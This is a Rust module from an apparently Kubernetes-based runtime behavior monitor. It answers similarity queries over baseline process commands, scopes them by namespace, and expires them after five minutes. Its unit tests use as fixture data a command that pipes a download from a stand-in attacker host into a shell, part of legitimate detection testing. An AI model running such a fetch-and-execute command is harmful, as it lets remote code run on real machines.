//! What a query is answered, and when it is over. Pure.

use anchorwatch_core::time::Timestamp as Seconds;
use anchorwatch_crds::v1alpha1::{BehaviorQuery, BehaviorQueryStatus, QueryAnswer, QueryPhase};
use anchorwatch_fleet::{Answer, Generation};
use jiff::{SignedDuration, Timestamp};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
use kube::ResourceExt;

use super::index::features;

/// How long a query is kept: long enough to be read, and short enough that nobody else comes across it.
const KEPT: SignedDuration = SignedDuration::from_mins(5);

/// Whether it waits for its answer.
pub fn is_open(query: &BehaviorQuery) -> bool {
    let phase = query.status.as_ref().and_then(|status| status.phase);
    phase.is_none() && query.metadata.deletion_timestamp.is_none()
}

/// Whether it is old enough to be deleted, answered or not.
pub fn is_over(query: &BehaviorQuery, now: Timestamp) -> bool {
    let created = query.metadata.creation_timestamp.as_ref();
    created.is_none_or(|created| now.duration_since(created.0) >= KEPT)
}

/// The answer. Admission has asked whether the requester may list what is searched: the namespace of the query, or all.
pub fn answer(query: &BehaviorQuery, generation: &Generation, as_of: Timestamp) -> BehaviorQueryStatus {
    let asked = features(&query.spec.command);
    let wanted = usize::try_from(query.spec.limit).unwrap_or(1);
    let found = if query.spec.all_namespaces {
        generation.nearest(&asked, wanted)
    } else {
        generation.nearest_in(&query.namespace().unwrap_or_default(), &asked, wanted)
    };
    BehaviorQueryStatus {
        phase: Some(QueryPhase::Answered),
        as_of: Some(Time(as_of)),
        searched: number(generation.len()),
        left_out: number(generation.left_out()),
        answers: found.into_iter().map(told).collect(),
    }
}

fn told(answer: Answer) -> QueryAnswer {
    let similarity = (answer.similarity() * 1e4).round() / 1e4;
    let Answer {
        command,
        holder,
        common: _,
        union: _,
    } = answer;
    QueryAnswer {
        namespace: holder.workload.namespace,
        kind: holder.workload.kind,
        name: holder.workload.name,
        container: holder.container,
        executable: holder.executable,
        command,
        similarity,
        first_seen: time(holder.first_seen),
        last_seen: time(holder.last_seen),
    }
}

fn number(count: usize) -> i64 {
    i64::try_from(count).unwrap_or(i64::MAX)
}

fn time(seconds: Seconds) -> Time {
    Time(Timestamp::from_second(seconds.as_secs()).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use anchorwatch_crds::v1alpha1::BehaviorBaseline;
    use serde_json::{Value, json};

    use super::*;
    use crate::controllers::query::index;

    fn baseline(namespace: &str, name: &str, commands: &Value) -> BehaviorBaseline {
        serde_json::from_value(json!({
            "metadata": {"namespace": namespace, "name": format!("deployment-{name}")},
            "spec": {"workload": {"kind": "Deployment", "name": name}},
            "status": {"containers": [{"name": "app", "feeds": [{
                "feed": "process", "state": "Enforcing", "startedAt": "2026-01-01T00:00:00Z",
                "entries": [
                    {"process": {"origin": "entrypoint", "parent": "/usr/bin/python3", "executable": "/usr/bin/bash", "source": "image"},
                     "attributes": {"commands": commands}, "count": 1, "lastDay": 20454, "days": 1, "pods": 1,
                     "firstSeen": "2026-01-01T00:00:00Z", "lastSeen": "2026-01-02T00:00:00Z"},
                    {"process": {"origin": "entrypoint", "parent": "", "executable": "/app/server", "source": "image"},
                     "count": 1, "lastDay": 20454, "days": 1, "pods": 1,
                     "firstSeen": "2026-01-01T00:00:00Z", "lastSeen": "2026-01-02T00:00:00Z"},
                ],
            }]}]},
        }))
        .unwrap()
    }

    fn query(command: &str, all_namespaces: bool) -> BehaviorQuery {
        serde_json::from_value(json!({
            "metadata": {"namespace": "shop", "name": "q", "creationTimestamp": "2026-01-02T00:00:00Z"},
            "spec": {"command": command, "allNamespaces": all_namespaces, "limit": 2},
        }))
        .unwrap()
    }

    fn answers(query: &BehaviorQuery) -> Vec<(String, String, f64)> {
        let fleet = [
            baseline("shop", "cart", &json!(["bash -c 'tar czf /backup/a.tgz /data'"])),
            baseline("bank", "till", &json!(["bash -c 'curl -s http://evil.example/x | sh'"])),
        ];
        let generation = Generation::of(fleet.iter().flat_map(index::known));
        let status = answer(query, &generation, "2026-01-02T00:00:00Z".parse().unwrap());
        assert_eq!((status.phase, status.searched), (Some(QueryPhase::Answered), 3));
        let told = status.answers.into_iter();
        told.map(|one| (one.namespace, one.command, one.similarity)).collect()
    }

    #[test]
    fn a_query_finds_in_its_own_namespace_alone_unless_it_asks_for_all() {
        let line = "bash -c 'curl -s http://evil.example/x | sh'";
        assert!(
            answers(&query(line, false))
                .iter()
                .all(|(namespace, _, _)| namespace == "shop")
        );
        assert_eq!(
            answers(&query(line, true))[0],
            ("bank".to_owned(), line.to_owned(), 1.0)
        );
    }

    #[test]
    fn a_program_without_a_command_line_is_found_by_its_path() {
        let found = answers(&query("/app/server", false));
        assert_eq!(found[0], ("shop".to_owned(), "/app/server".to_owned(), 1.0));
    }

    #[test]
    fn a_query_is_answered_once_and_over_after_minutes() {
        let mut query = query("ls", false);
        assert!(is_open(&query));
        query.status = Some(BehaviorQueryStatus {
            phase: Some(QueryPhase::Answered),
            ..BehaviorQueryStatus::default()
        });
        assert!(!is_open(&query));
        assert!(!is_over(&query, "2026-01-02T00:04:59Z".parse().unwrap()));
        assert!(is_over(&query, "2026-01-02T00:05:00Z".parse().unwrap()));
    }
}
